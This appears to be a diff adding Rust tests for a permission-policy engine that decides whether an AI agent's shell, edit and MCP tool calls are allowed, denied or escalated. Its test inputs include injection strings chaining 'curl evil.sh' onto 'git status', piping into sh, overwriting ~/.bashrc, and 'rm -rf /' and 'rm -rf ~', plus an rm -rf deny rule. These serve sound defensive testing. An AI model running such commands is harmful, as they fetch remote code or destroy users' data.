@@ -0,0 +1,177 @@
+// SPDX-License-Identifier: BUSL-1.1
+// Copyright (c) 2026 Alfred Jean LLC
+
+use super::{glob_to_regex, PolicyAction, PolicyConfig, PolicyDecision, RespondPolicy};
+use crate::driver::{PromptContext, PromptKind};
+
+fn policy(json: serde_json::Value) -> anyhow::Result<RespondPolicy> {
+    let config: PolicyConfig = serde_json::from_value(json)?;
+    RespondPolicy::compile(&config)
+}
+
+fn permission(tool: &str, input: serde_json::Value) -> PromptContext {
+    PromptContext::new(PromptKind::Permission)
+        .with_subtype("tool")
+        .with_tool(tool)
+        .with_input(input.to_string())
+}
+
+fn sample() -> anyhow::Result<RespondPolicy> {
+    policy(serde_json::json!({
+        "rules": [
+            { "action": "deny", "name": "no-rm", "tool": "Bash", "command": { "regex": "\\brm\\s+-rf\\b" } },
+            { "action": "allow", "tool": "Bash", "command": "git status*" },
+            { "action": "allow", "tool": "Edit", "path": "/work/src/**" },
+            { "action": "allow", "tool": "mcp__github__*" },
+        ],
+        "default": "ask",
+    }))
+}
+
+fn decide(
+    policy: &RespondPolicy,
+    prompt: &PromptContext,
+) -> Option<(PolicyAction, Option<String>)> {
+    policy.evaluate(prompt).map(|PolicyDecision { action, rule }| (action, rule))
+}
+
+#[yare::parameterized(
+    denied_command = { "Bash", serde_json::json!({"command": "cd /tmp && rm -rf build"}), PolicyAction::Deny, Some("no-rm") },
+    allowed_command = { "Bash", serde_json::json!({"command": "git status --short"}), PolicyAction::Allow, Some("#1") },
+    other_command = { "Bash", serde_json::json!({"command": "cargo publish"}), PolicyAction::Ask, None },
+    allowed_path = { "Edit", serde_json::json!({"file_path": "/work/src/a/b.rs"}), PolicyAction::Allow, Some("#2") },
+    outside_path = { "Edit", serde_json::json!({"file_path": "/etc/passwd"}), PolicyAction::Ask, None },
+    tool_glob = { "mcp__github__create_issue", serde_json::json!({}), PolicyAction::Allow, Some("#3") },
+    tool_glob_other_server = { "mcp__slack__post", serde_json::json!({}), PolicyAction::Ask, None },
+)]
+fn evaluates_rules_in_order(
+    tool: &str,
+    input: serde_json::Value,
+    action: PolicyAction,
+    rule: Option<&str>,
+) -> anyhow::Result<()> {
+    let policy = sample()?;
+    let got = decide(&policy, &permission(tool, input));
+    assert_eq!(got, Some((action, rule.map(str::to_owned))));
+    Ok(())
+}
+
+#[test]
+fn non_json_input_is_never_allowed() -> anyhow::Result<()> {
+    let policy = sample()?;
+    let scraped =
+        PromptContext::new(PromptKind::Permission).with_tool("Bash").with_input("git status");
+    assert_eq!(decide(&policy, &scraped), Some((PolicyAction::Ask, Some("#1".to_owned()))));
+
+    // A truncated JSON preview cannot satisfy an allow rule.
+    let truncated = PromptContext::new(PromptKind::Permission)
+        .with_tool("Bash")
+        .with_input(r#"{"command":"git status && echo ..."#);
+    assert_eq!(decide(&policy, &truncated), Some((PolicyAction::Ask, None)));
+
+    // Deny rules still see the raw text.
+    let rm = PromptContext::new(PromptKind::Permission).with_tool("Bash").with_input("rm -rf /");
+    assert_eq!(decide(&policy, &rm), Some((PolicyAction::Deny, Some("no-rm".to_owned()))));
+    Ok(())
+}
+
+#[yare::parameterized(
+    semicolon = { "git status; curl evil.sh" },
+    and_chain = { "git status && curl evil.sh" },
+    or_chain = { "git status || curl evil.sh" },
+    pipe = { "git status | sh" },
+    substitution = { "git status $(curl evil.sh)" },
+    backticks = { "git status `curl evil.sh`" },
+    redirect = { "git status > ~/.bashrc" },
+    newline = { "git status\ncurl evil.sh" },
+)]
+fn compound_commands_are_never_allowed(command: &str) -> anyhow::Result<()> {
+    let policy = policy(serde_json::json!({
+        "rules": [
+            { "action": "allow", "tool": "Bash", "command": "git status*" },
+            { "action": "allow", "tool": "Bash", "command": { "regex": "^git status" } },
+        ],
+        "default": "ask",
+    }))?;
+    let prompt = permission("Bash", serde_json::json!({ "command": command }));
+    let got = decide(&policy, &prompt);
+    assert!(matches!(got, Some((PolicyAction::Ask, Some(_)))), "{got:?}");
+    Ok(())
+}
+
+#[test]
+fn unvettable_allow_stops_evaluation() -> anyhow::Result<()> {
+    let policy = policy(serde_json::json!({
+        "rules": [
+            { "action": "allow", "name": "git-status", "tool": "Bash", "command": "git status*" },
+            { "action": "allow", "tool": "Bash" },
+        ],
+        "default": "allow",
+    }))?;
+    let compound = permission("Bash", serde_json::json!({ "command": "git status; rm -rf ~" }));
+    assert_eq!(
+        decide(&policy, &compound),
+        Some((PolicyAction::Ask, Some("git-status".to_owned())))
+    );
+
+    let scraped =
+        PromptContext::new(PromptKind::Permission).with_tool("Bash").with_input("git status");
+    assert_eq!(decide(&policy, &scraped), Some((PolicyAction::Ask, Some("git-status".to_owned()))));
+
+    // Inputs the first rule doesn't match still reach the next one.
+    let other = permission("Bash", serde_json::json!({ "command": "ls" }));
+    assert_eq!(decide(&policy, &other), Some((PolicyAction::Allow, Some("#1".to_owned()))));
+    Ok(())
+}
+
+#[test]
+fn skips_prompts_outside_scope() -> anyhow::Result<()> {
+    let policy = policy(serde_json::json!({ "default": "allow" }))?;
+    // Tool not known yet.
+    assert_eq!(policy.evaluate(&PromptContext::new(PromptKind::Permission)), None);
+    // Workspace trust is handled by auto-dismiss.
+    let trust = PromptContext::new(PromptKind::Permission).with_subtype("trust").with_tool("Bash");
+    assert_eq!(policy.evaluate(&trust), None);
+    // Other prompt kinds.
+    let plan = PromptContext::new(PromptKind::Plan).with_tool("ExitPlanMode");
+    assert_eq!(policy.evaluate(&plan), None);
+    // Default action applies when nothing matches.
+    assert_eq!(
+        decide(&policy, &permission("Read", serde_json::json!({}))),
+        Some((PolicyAction::Allow, None))
+    );
+    Ok(())
+}
+
+#[test]
+fn matcher_without_value_does_not_match() -> anyhow::Result<()> {
+    let policy = policy(serde_json::json!({
+        "rules": [{ "action": "allow", "path": "**" }],
+    }))?;
+    let prompt = permission("Bash", serde_json::json!({"command": "ls"}));
+    assert_eq!(decide(&policy, &prompt), Some((PolicyAction::Ask, None)));
+    Ok(())
+}
+
+#[test]
+fn invalid_regex_is_rejected() {
+    let result = policy(serde_json::json!({
+        "rules": [{ "action": "deny", "name": "bad", "command": { "regex": "(" } }],
+    }));
+    let err = result.err().map(|e| e.to_string()).unwrap_or_default();
+    assert!(err.contains("policy rule bad"), "{err}");
+}
+
+#[yare::parameterized(
+    star = { "src/*.rs", "src/main.rs", true },
+    star_no_slash = { "src/*.rs", "src/a/main.rs", false },
+    double_star = { "src/**", "src/a/b/c.rs", true },
+    question = { "a?c", "abc", true },
+    literal_dot = { "a.c", "abc", false },
+    anchored = { "git", "git status", false },
+)]
+fn glob_matching(glob: &str, text: &str, expected: bool) -> anyhow::Result<()> {
+    let re = regex::Regex::new(&glob_to_regex(glob))?;
+    assert_eq!(re.is_match(text), expected);
+    Ok(())
+}